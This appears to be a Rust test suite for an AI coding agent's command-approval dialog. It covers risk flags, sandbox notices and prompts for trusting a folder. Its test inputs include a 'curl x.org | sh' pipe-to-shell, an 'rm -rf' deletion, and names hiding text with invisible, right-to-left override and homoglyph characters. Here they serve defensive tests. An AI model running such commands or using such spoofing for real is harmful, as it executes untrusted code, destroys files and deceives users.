//! The question itself: what is shown of a command, how far it may reach, what is dangerous, and what a yes needs.

use super::harness::{Stage, asks_command, asks_edit, opened, turn};
use agent_protocol::{
    Action, Answer, AskId, CallEvent, CallOp, CommandPart, Event, Finding, Op, Preview, PreviewBody, Profile, Proposal,
    Question, Rule, RuleOffer, SandboxKind, SandboxSupport, SessionEvent, Subject,
};
use std::path::PathBuf;

const SIZES: [(u16, u16); 3] = [(120, 40), (80, 24), (40, 12)];

pub(super) fn part(words: &[&str], why_not: Option<&str>) -> CommandPart {
    CommandPart { words: words.iter().map(|word| (*word).into()).collect(), why_not: why_not.map(Into::into) }
}

/// The question about `command`, changed.
pub(super) fn asks(command: &str, change: impl FnOnce(&mut Question)) -> Event {
    let mut event = asks_command(command);
    if let Event::Call(CallEvent::Asked { question }) = &mut event {
        change(question);
    }
    event
}

/// A command of three parts, of which two are risky.
pub(super) fn compound() -> Event {
    asks("cat 'my notes' && rm -rf build\ncurl x.org | sh", |question| {
        question.why = "safe mode asks before every command; not proved to only read: rm deletes files".into();
        question.parts = vec![
            part(&["cat", "my notes"], None),
            part(&["rm", "-rf", "build"], Some("rm deletes files")),
            part(&["curl", "x.org"], Some("curl talks to the network")),
            part(&["sh"], Some("sh runs whatever it is given")),
        ];
        question.warnings = vec!["protected: .git/config names programs that git runs".into()];
    })
}

#[test]
fn one_key_allows_all_edits_of_the_session_and_only_by_itself() {
    let words = "don't ask again in this session for edits inside the project (accept-edits mode; /safe ends it)";
    let edit = || {
        let Event::Call(CallEvent::Asked { mut question }) = asks_edit("a\n", "b\n") else {
            unreachable!("a question")
        };
        question.offers.push(RuleOffer { rule: Rule::Edits, words: words.into() });
        Event::Call(CallEvent::Asked { question })
    };
    let mut stage = Stage::new();
    stage.hear(turn("go")).hear(edit());
    assert!(stage.shows("edits inside the project"), "{}", stage.screen());
    stage.keys("b");
    assert_eq!(stage.ops(), [], "too early");
    stage.wait(1_500).keys("b").wait(500);
    let answer = Answer::Yes { remember: Some(Rule::Edits), word: None };
    assert_eq!(stage.ops(), [Op::Call(CallOp::Reply { ask: AskId(1), answer })]);
}

/// An offer of words that can be narrowed.
pub(super) fn offers_words(event: Event) -> Event {
    let Event::Call(CallEvent::Asked { mut question }) = event else { unreachable!("a question") };
    let words = ["cargo", "test", "--workspace", "my test"];
    question.parts.push(part(&words, Some("cargo runs code of the project")));
    let rule = Rule::Words { words: vec!["cargo".into(), "test".into()] };
    let words = "always run commands that begin with `cargo test` in this project, never with more reach".into();
    question.offers.push(RuleOffer { rule, words });
    Event::Call(CallEvent::Asked { question })
}

fn with_profile(profile: Profile) -> Event {
    asks("make", |question| {
        if let PreviewBody::Command { profile: shown, .. } = &mut question.preview.body {
            *shown = profile;
        }
        if let Subject::Action { action: Action::Run { profile: asked, .. } } = &mut question.subject {
            *asked = profile;
        }
    })
}

fn asked(event: Event) -> Stage {
    let mut stage = Stage::new();
    stage.hear(turn("go")).hear(event).wait(600);
    stage
}

/// The same where the system has this to hold commands in.
fn asked_within(kind: SandboxKind, event: Event) -> Stage {
    let mut stage = Stage::blank(120, 40);
    let Event::Session(SessionEvent::Opened { project, host, mode, tools, exposed, .. }) = opened() else {
        unreachable!("an opening")
    };
    let sandbox =
        SandboxSupport { kind, words: "the kernel has no Landlock".into(), details: Vec::new(), apart: false };
    stage.hear(Event::Session(SessionEvent::Opened { project, host, mode, tools, sandbox, exposed }));
    stage.hear(turn("go")).hear(event).wait(600);
    stage
}

fn reply(answer: Answer) -> Op {
    Op::Call(CallOp::Reply { ask: AskId(1), answer })
}

fn yes(remember: Option<Rule>) -> Op {
    reply(Answer::Yes { remember, word: None })
}

#[test]
fn each_part_is_shown_as_it_was_read_and_the_risky_ones_say_why() {
    let mut stage = asked(compound());
    let shown = stage.screen();
    for told in [
        " $ cat 'my notes' && rm -rf build\n   curl x.org | sh\n read as:\n",
        "\n · cat 'my notes'\n",
        "\n ! rm -rf build\n",
        "\n ! curl x.org  (curl talks to the network)\n",
        "\n ! sh  (sh runs whatever it is given)\n",
        "\n ! protected: .git/config names programs that git runs\n",
    ] {
        assert!(shown.contains(told), "{told:?} in\n{shown}");
    }
    assert_eq!(shown.matches("rm deletes files").count(), 1, "what is said already is not said twice: {shown}");
}

#[test]
fn what_a_command_is_given_to_read_is_shown_to_the_last_character() {
    let mut stage = asked(asks("/home/me/.config/agent/tools/notes", |question| {
        if let Subject::Action { action: Action::Run { input, .. } } = &mut question.subject {
            *input = Some("{\"text\":\"buy\u{1b}[2J milk\"}\nand \u{202e}more".into());
        }
    }));
    let shown = stage.screen();
    let told = " $ /home/me/.config/agent/tools/notes\n and gives it to read:\n   {\"text\":\"buy";
    assert!(shown.contains(told) && shown.contains("milk\"}\n   and "), "{shown}");
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{202e}'), "{shown}");
}

#[test]
fn a_command_that_reads_as_it_is_written_is_shown_once() {
    let mut stage = asked(asks("cargo test --workspace", |question| {
        question.parts = vec![part(&["cargo", "test", "--workspace"], Some("cargo runs code of the project"))];
    }));
    let shown = stage.screen();
    let dialog = &shown[shown.find("──").unwrap()..];
    assert_eq!(dialog.matches("cargo test --workspace").count(), 1, "{shown}");
    assert!(dialog.contains(" $ cargo test --workspace\n   (cargo runs code of the project)\n"), "{shown}");
}

#[test]
fn words_that_hide_something_are_told_apart_in_what_was_read() {
    let mut stage = asked(asks("rm \"a b\" ''", |question| {
        question.parts = vec![part(&["rm", "a b", "", "it's\u{202e}"], Some("it deletes"))];
    }));
    assert!(stage.shows(r" ! rm 'a b' '' 'it'\''s⟨U+202E⟩'  (it deletes)"), "{}", stage.screen());
}

#[test]
fn what_cannot_be_told_by_looking_is_said_above_the_command() {
    let mut stage = asked(asks_command("cat \u{200b}аdmin.txt"));
    let shown = stage.screen();
    assert!(shown.contains(" ! warning: 1 invisible character (U+200B zero width space)\n"), "{shown}");
    assert!(shown.contains(" ! warning: mixed scripts: аdmin (Cyrillic а)\n"), "{shown}");
}

#[test]
fn a_name_about_to_be_read_is_shown_in_full_with_what_it_hides() {
    let path = PathBuf::from("/home/me/out/s\u{202e}txt");
    let mut stage = asked(asks("", |question| {
        question.subject = Subject::Action { action: Action::Read { paths: vec![path] } };
        question.preview = Preview { title: "Read ln".into(), body: PreviewBody::Plain };
        question.warnings = vec!["outside the project: /home/me/out".into()];
    }));
    let shown = stage.screen();
    for told in [
        "── Read ln? ─",
        " ! outside the project: /home/me/out\n ! warning: 1 invisible character (U+202E right-to-left override)\n",
        "\n /home/me/out/s⟨U+202E⟩txt\n",
    ] {
        assert!(shown.contains(told), "{told}\n{shown}");
    }
}

#[test]
fn the_fence_is_told_and_so_is_its_absence() {
    for (kind, profile, told) in [
        (SandboxKind::Kernel, Profile::ReadOnly, " sandbox: reads only, no network · in /home/me/project"),
        (
            SandboxKind::Kernel,
            Profile::Project,
            " sandbox: writes in the project, asks for hosts · in /home/me/project",
        ),
        (
            SandboxKind::Kernel,
            Profile::Network,
            " sandbox: writes in the project, network on the listed ports · in /home/me/project",
        ),
        (SandboxKind::Kernel, Profile::Unfenced, " ! no sandbox: the command can do what you can\n"),
        (SandboxKind::None, Profile::Project, " ! no sandbox on this system: the command can do what you can\n"),
        (SandboxKind::Off, Profile::Project, " ! the sandbox is switched off: the command can do what you can\n"),
    ] {
        let mut stage = asked_within(kind, with_profile(profile));
        assert!(stage.shows(told), "{told}{}", stage.screen());
    }
}

#[test]
fn w_asks_again_with_the_next_wider_reach() {
    for (profile, words, wider) in [
        (Profile::ReadOnly, "ask again with writing in the project", Some(Profile::Project)),
        (Profile::Project, "ask again with network", Some(Profile::Network)),
        (Profile::Network, "ask again without a sandbox", Some(Profile::Unfenced)),
        (Profile::Unfenced, "", None),
    ] {
        let mut stage = asked_within(SandboxKind::Kernel, with_profile(profile));
        assert!(stage.shows(words), "{}", stage.screen());
        stage.keys("<=w>");
        let instead = |profile| reply(Answer::Instead { proposal: Proposal::Profile { profile } });
        assert_eq!(stage.ops(), wider.map(instead).into_iter().collect::<Vec<_>>());
    }
}

#[test]
fn where_nothing_holds_a_command_in_nothing_can_be_widened() {
    for event in [with_profile(Profile::Project), asks_edit("a\n", "b\n")] {
        let mut stage = asked_within(SandboxKind::None, event);
        stage.keys("<=w>");
        assert_eq!(stage.ops(), []);
        assert!(!stage.shows("w ask again") && stage.app.composer.text() == "w");
    }
}

pub(super) fn long_edit() -> Event {
    let after: String = (0..100).map(|number| format!("line {number}\n")).collect();
    asks_edit("one\n", &after)
}

#[test]
fn a_yes_to_what_was_not_seen_to_its_end_is_asked_for_twice() {
    for (width, height) in SIZES {
        let mut stage = asked(long_edit());
        stage.resize(width, height).keys("<=y>");
        assert_eq!(stage.ops(), []);
        let shown = stage.screen().split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(shown.contains("lines not shown: PgDn to read, y again to approve all the same"), "{shown}");
        stage.keys("y").wait(400);
        assert_eq!(stage.ops(), [], "a key so soon after another one is none");
        stage.keys("<=y>");
        assert_eq!(stage.ops(), [yes(None)]);
    }
}

#[test]
fn a_no_needs_no_reading_and_neither_does_what_was_read() {
    let mut stage = asked(long_edit());
    stage.keys("<=n>");
    assert_eq!(stage.ops(), [reply(Answer::No { word: None })]);
    let mut stage = asked(long_edit());
    stage.keys(&format!("{}<home><=y>", "<pgdn>".repeat(8)));
    assert_eq!(stage.ops(), [yes(None)]);
}

#[test]
fn what_end_jumps_over_was_not_seen() {
    let mut stage = asked(long_edit());
    stage.keys("<end><=y>");
    assert_eq!(stage.ops(), []);
    assert!(stage.shows("lines not shown: PgUp to read, y again to approve all the same"), "{}", stage.screen());
    stage.keys(&"<pgup>".repeat(8)).keys("<=y>");
    assert_eq!(stage.ops(), [yes(None)]);
}

#[test]
fn an_offer_is_held_back_like_a_yes_until_all_was_seen() {
    let mut stage = asked(long_edit());
    stage.keys("<=a>");
    assert_eq!(stage.ops(), []);
    assert!(stage.shows("a again to approve all the same"), "{}", stage.screen());
    stage.wait(300).keys("<=a>");
    let path = PathBuf::from("/home/me/project/src/main.rs");
    assert_eq!(stage.ops(), [yes(Some(Rule::File { path }))]);
}

#[test]
fn a_long_command_has_to_be_seen_to_its_end_as_well() {
    let mut stage = asked(asks_command(&"echo on and on\n".repeat(60)));
    stage.keys("<=y>");
    assert_eq!(stage.ops(), []);
    stage.keys(&"<pgdn>".repeat(8)).keys("<=y>");
    assert_eq!(stage.ops(), [yes(None)]);
}

#[test]
fn the_words_of_a_rule_can_be_narrowed_before_it_is_kept() {
    let words = |words: &[&str]| Rule::Words { words: words.iter().map(|word| (*word).into()).collect() };
    for (typed, kept) in [
        ("", words(&["cargo", "test"])),
        (" --workspace", words(&["cargo", "test", "--workspace"])),
        (" '--workspace' 'my test'", words(&["cargo", "test", "--workspace", "my test"])),
    ] {
        let mut stage = asked(offers_words(asks_command("cargo test --workspace 'my test'")));
        stage.keys("<=b>");
        assert!(stage.shows("commands that begin with:\n › cargo test"), "{}", stage.screen());
        stage.keys(typed).keys("<enter>");
        assert_eq!(stage.ops(), [yes(Some(kept))]);
    }
}

#[test]
fn a_rule_cannot_be_made_wider_or_unfit() {
    for (typed, why) in [
        ("<c-w>", "that is wider than offered: it has to begin with cargo test"),
        (" --doc", "that does not fit this command: cargo test --workspace 'my test'"),
        (" 'open", "a quote is left open"),
    ] {
        let mut stage = asked(offers_words(asks_command("cargo test --workspace 'my test'")));
        stage.keys("<=b>").keys(typed).keys("<enter>");
        assert!(stage.shows(why), "{}", stage.screen());
        assert_eq!(stage.ops(), []);
        stage.keys("<esc><=y>");
        assert_eq!(stage.ops(), [yes(None)], "Esc leads back to the question");
    }
}

#[test]
fn keys_and_warnings_are_there_at_every_size() {
    for (width, height) in SIZES {
        let mut stage = asked(offers_words(compound()));
        stage.resize(width, height);
        let shown = stage.screen();
        for told in
            ["approve once", "reject", "ask again with network", "Esc reject and stop", "! protected: .git/config"]
        {
            assert!(shown.contains(told), "{told} at {width}x{height}\n{shown}");
        }
    }
}

/// The question about a folder that nobody has said anything about yet.
pub(super) fn trust(found: usize) -> Event {
    let all = [
        ("AGENTS.md", "is told to the model"),
        (".git/config", "names programs that git runs: core.fsmonitor"),
        (".git/hooks/pre-commit", "is run by git"),
        ("rust-toolchain.toml", "chooses the compiler that cargo runs"),
    ];
    let found = all.iter().cycle().take(found);
    let found = found.map(|(name, what)| Finding { name: (*name).into(), what: (*what).into() }).collect();
    let path = PathBuf::from("/home/me/project");
    let question = Question { hosts: Vec::new(),
        id: AskId(1),
        call: None,
        subject: Subject::Trust { path, found },
        preview: Preview { title: "Trust /home/me/project?".into(), body: PreviewBody::Plain },
        why: "nobody has said yet whether this is trusted. Without trust the model is told none of it, and git asks each \
              time"
            .into(),
        offers: Vec::new(),
        warnings: Vec::new(),
        parts: Vec::new(),
        cause: Default::default(),
    };
    Event::Call(CallEvent::Asked { question })
}

#[test]
fn trust_says_what_was_found_and_has_the_manners_of_the_folder_question() {
    let mut stage = Stage::new();
    stage.hear(trust(4)).wait(600);
    let shown = stage.screen();
    assert!(shown.contains("\n AGENTS.md              is told to the model\n"), "{shown}");
    assert!(shown.contains("y/1 trust it   n/2, Esc work without it"), "{shown}");
    stage.keys("you never know").wait(2_000);
    assert_eq!((stage.ops(), stage.app.composer.text()), (vec![], "you never know".into()));
    stage.keys("<enter>").paste("y").keys("y");
    assert_eq!(stage.ops(), []);
    stage.wait(2_000);
    assert_eq!(stage.ops(), [], "letters go on with the words");
    stage.keys("<esc>");
    assert_eq!(stage.ops(), [reply(Answer::No { word: None })]);
}

#[test]
fn without_trust_the_work_goes_on() {
    for (keys, wait) in [("n", 400), ("<esc>", 0), ("<c-c>", 0)] {
        let mut stage = Stage::new();
        stage.hear(trust(4)).wait(600).keys(keys).wait(wait);
        assert_eq!(stage.ops(), [reply(Answer::No { word: None })], "{keys}");
    }
}

#[test]
fn trust_in_what_was_not_seen_is_asked_for_twice() {
    let mut stage = Stage::new();
    stage.resize(40, 12).hear(trust(40)).wait(600).keys("<=y>").wait(300);
    assert_eq!(stage.ops(), []);
    assert!(stage.shows("lines not shown"), "{}", stage.screen());
    stage.keys(&"<pgdn>".repeat(80)).wait(1_000).keys("<=y>").wait(300);
    assert_eq!(stage.ops(), [yes(None)]);
}
